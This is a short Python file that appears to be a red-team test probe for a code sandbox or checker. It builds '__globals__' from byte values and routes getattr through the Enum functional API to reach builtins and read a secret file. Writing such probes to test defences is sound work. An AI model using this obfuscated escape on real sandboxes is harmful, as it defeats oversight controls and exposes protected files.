# family: red team, round 24 (what a method's self may be)
# Chain (refused probe): [Enum][0]('M', ..., type=Reader): the Enum functional API through a list item.
# Goal: a run-time name reaching getattr / a trusted constant or self that is not the tool's own object.
from enum import Enum
from functools import partial


class Reader:
    FIELDS = ("name",)

    def __init__(self, *data):
        self.data = data

    def __iter__(self):
        return iter(self.data)

    def __call__(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


def helper():
    return 1


def run():
    d = bytes([95, 95]).decode()
    names = (d + "globals" + d,)
    m = [Enum][0]("M", [("FIELDS", names), ("A", ("x",))], type=Reader)
    got = m.A(helper)[0]
    print(sorted(got.keys())[:8])
    print(got[d + "builtins" + d].open("/tmp/r24/work/secret.txt").read())


run()
